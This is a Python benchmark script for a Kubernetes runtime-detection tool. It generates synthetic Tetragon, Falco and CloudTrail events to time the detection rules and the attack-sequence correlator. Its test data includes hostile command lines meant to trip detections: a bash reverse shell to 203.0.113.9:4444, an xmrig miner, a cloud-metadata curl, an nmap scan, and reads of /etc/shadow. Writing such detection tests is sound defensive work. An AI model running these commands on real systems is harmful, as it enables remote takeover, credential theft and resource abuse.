"""Benchmark: runtime events/s (Tetragon, Falco) through the runtime rules, CloudTrail records/s,
and the attack-sequence correlator's cost.

    python bench/detect_runtime.py                       # 200k Tetragon + 50k Falco events
    python bench/detect_runtime.py --events 500000 --repeat 3

The Tetragon mix imitates a node's export: ~85% process_exec of ordinary binaries (probes, shells,
package tools, the app) with pod metadata and a parent, ~10% process_exit, ~4% kprobes (file
reads/writes, tcp_connect), ~0.5% suspicious (reverse shells, miners, /tmp binaries, IMDS), all
built from the shape of cilium/tetragon's testdata/events.json. The Falco mix is alerts with
output_fields (Terminal shell, Read sensitive file, Contact K8S API Server, a few mapped rules).
Throughput is per CPU-second of this single-threaded process (time.process_time).
"""

from __future__ import annotations

import argparse
import copy
import json
import random
import sys
import time
from pathlib import Path

import orjson

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT / "src"))

from kubestrata.detect.pipeline import DetectConfig, Pipeline  # noqa: E402
from kubestrata.detect.router import DetectRouter  # noqa: E402
from kubestrata.detect.sequences import Correlator  # noqa: E402

DATA = ROOT / "tests" / "detect" / "data" / "runtime"
BENIGN = [
    ("/usr/bin/grpc-health-probe", "-addr=:50051"), ("/bin/sh", "-c /healthz.sh"), ("/usr/bin/curl", "-sf http://127.0.0.1:8080/ready"),
    ("/usr/local/bin/python3", "manage.py migrate --check"), ("/usr/bin/cat", "/proc/meminfo"), ("/bin/ls", "-la /data"),
    ("/usr/sbin/nginx", "-g daemon off;"), ("/usr/bin/java", "-Xmx512m -jar /app/app.jar"), ("/usr/bin/node", "/app/server.js"),
    ("/usr/bin/date", "+%s"), ("/usr/bin/sleep", "5"), ("/usr/bin/find", "/var/cache -mtime +1 -delete"),
    ("/usr/bin/apt-get", "update"), ("/bin/bash", "/entrypoint.sh"), ("/usr/bin/env", "PATH=/usr/bin python3 job.py"),
]  # fmt: skip
SUSPICIOUS = [
    ("/bin/bash", '-c "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"'), ("/usr/local/bin/xmrig", "-o stratum+tcp://p.example:3333"),
    ("/tmp/x", "-d"), ("/usr/bin/curl", "-s http://169.254.169.254/latest/meta-data/"), ("/usr/bin/nmap", "-sS 10.0.0.0/24"),
]  # fmt: skip


def tetragon_events(n: int, rng: random.Random) -> list[bytes]:
    base = json.loads((DATA / "tetragon-events.jsonl").read_text().splitlines()[0])
    kprobe = json.loads((DATA / "tetragon-file_permission.jsonl").read_text())
    pods = [(f"ns-{i % 40}", f"app-{i}-7d9f8b6c5d-{i:05x}", f"containerd://{i:064x}") for i in range(500)]
    out = []
    for i in range(n):
        ns, pod, cid = pods[rng.randrange(len(pods))]
        r = rng.random()
        if r < 0.04:
            ev = copy.deepcopy(kprobe)
            body = ev["process_kprobe"]
            if r < 0.01:
                body["function_name"] = "tcp_connect"
                body["args"] = [{"sock_arg": {"family": "AF_INET", "saddr": "10.0.3.4", "daddr": f"10.0.{i % 250}.7",
                                              "sport": 40000 + i % 20000, "dport": 443}}]  # fmt: skip
            else:
                body["args"][0]["file_arg"]["path"] = rng.choice(
                    ["/etc/hosts", "/tmp/cache.db", "/var/log/app.log"]
                )
                body["args"][1]["int_arg"] = rng.choice([2, 4, 4, 4])
            proc = body["process"]
        else:
            ev = copy.deepcopy(base)
            kind = "process_exit" if r < 0.14 else "process_exec"
            if kind == "process_exit":
                ev = {"process_exit": ev["process_exec"], "node_name": ev["node_name"]}
            body = ev[kind]
            proc = body["process"]
            binary, args = rng.choice(SUSPICIOUS if r > 0.995 else BENIGN)
            proc["binary"], proc["arguments"] = binary, args
        proc["pid"] = 1000 + i
        proc["exec_id"] = f"bm9kZToxMjM0NTY3ODk6{i:08d}"
        proc["pod"] = {**proc.get("pod", {}), "namespace": ns, "name": pod,
                       "container": {**proc.get("pod", {}).get("container", {}), "id": cid, "name": "app"}}  # fmt: skip
        ev["time"] = f"2026-11-27T09:{(i // 6000) % 60:02d}:{(i // 100) % 60:02d}.{i % 100:02d}0000000Z"
        out.append(orjson.dumps(ev))
    return out


def falco_events(n: int, rng: random.Random) -> list[bytes]:
    base = json.loads((DATA / "falco-terminal-shell.jsonl").read_text())
    rules = [("Terminal shell in container", {"evt.type": "execve", "proc.cmdline": "bash"}),
             ("Read sensitive file untrusted", {"evt.type": "openat", "fd.name": "/etc/shadow", "evt.arg.flags": "O_RDONLY"}),
             ("Contact K8S API Server From Container", {"evt.type": "connect", "fd.type": "ipv4",
                                                         "fd.name": "10.0.0.5:40000->172.20.0.1:443"}),
             ("Redirect STDOUT/STDIN to Network Connection in Container", {"evt.type": "dup2", "fd.type": "ipv4",
                                                                           "fd.name": "10.0.0.5:4->203.0.113.9:4444"})]  # fmt: skip
    out = []
    for i in range(n):
        ev = copy.deepcopy(base)
        rule, fields = rules[0 if rng.random() < 0.7 else rng.randrange(1, len(rules))]
        ev["rule"] = rule
        ev["output_fields"].update(fields)
        ev["output_fields"]["k8s.pod.name"] = f"app-{i % 300}"
        ev["time"] = f"2026-11-27T10:{(i // 6000) % 60:02d}:{(i // 100) % 60:02d}.{i % 100:02d}0000000Z"
        out.append(orjson.dumps(ev))
    return out


def cloudtrail_records(n: int) -> list[bytes]:
    recs = json.loads((ROOT / "tests/detect/data/cloudtrail/eks-records.json").read_text())["Records"]
    out = []
    for i in range(n):
        r = dict(recs[i % (len(recs) - 2)])
        r["eventID"] = f"e-{i}"
        out.append(orjson.dumps(r))
    return out


def run(lines: list[bytes], sequences: bool) -> tuple[float, float, DetectRouter]:
    router = DetectRouter(Pipeline(DetectConfig(cluster="bench")), sequences=sequences)
    t0, w0 = time.process_time(), time.perf_counter()
    for line in lines:
        router.process_line(line, "bench")
    return time.process_time() - t0, time.perf_counter() - w0, router


def correlator_cost(n: int, rng: random.Random) -> tuple[float, int]:
    """Signals only (every finding a chain step): the correlator's own cost per finding."""
    corr = Correlator()
    rules = ["KS-RUN-02", "KS-RUN-15", "KS-RUN-06", "KS-AUD-N15", "KS-AUD-F11", "KS-AUD-G03", "KS-CT-05"]
    fs = []
    for i in range(n):
        rid = rules[rng.randrange(len(rules))]
        t = 1795770000 + i * 0.5
        stamp = time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(t)) + f".{int(t * 10) % 10}Z"
        fs.append({"ruleId": rid, "time": stamp, "cluster": f"c{i % 5}", "user": f"u{i % 50}",
                   "resource": "pods", "namespace": "ns", "name": f"p{i % 200}", "fingerprint": f"{i:032x}",
                   "message": rid})  # fmt: skip
    t0 = time.process_time()
    seqs = 0
    for f in fs:
        seqs += len(corr.observe(f))
    return time.process_time() - t0, seqs


def main() -> None:
    ap = argparse.ArgumentParser()
    ap.add_argument("--events", type=int, default=200_000)
    ap.add_argument("--falco", type=int, default=50_000)
    ap.add_argument("--cloudtrail", type=int, default=50_000)
    ap.add_argument("--signals", type=int, default=50_000)
    ap.add_argument("--repeat", type=int, default=1)
    a = ap.parse_args()
    rng = random.Random(7)
    tet, fal, ct = (
        tetragon_events(a.events, rng),
        falco_events(a.falco, rng),
        cloudtrail_records(a.cloudtrail),
    )
    print(f"input: {len(tet)} Tetragon events (median {sorted(map(len, tet))[len(tet) // 2]} B), {len(fal)} Falco alerts, "
          f"{len(ct)} CloudTrail records")  # fmt: skip
    for _ in range(a.repeat):
        for name, lines, seq in (("tetragon", tet, True), ("tetragon, --no-sequences", tet, False),
                                 ("falco", fal, True), ("cloudtrail", ct, True)):  # fmt: skip
            cpu, wall, r = run(lines, seq)
            print(f"{name:26s} {len(lines) / cpu:>10,.0f} events per CPU-second  (wall {len(lines) / wall:,.0f}/s; "
                  f"{r.stats.findings} findings, {r.stats.suppressed} folded, {r.extra.sequences} sequences)")  # fmt: skip
        cpu, seqs = correlator_cost(a.signals, rng)
        print(f"correlator: {a.signals} chain-step findings in {cpu:.2f} CPU-s = {cpu / a.signals * 1e6:.1f} us each "
              f"({seqs} sequences)")  # fmt: skip


if __name__ == "__main__":
    main()
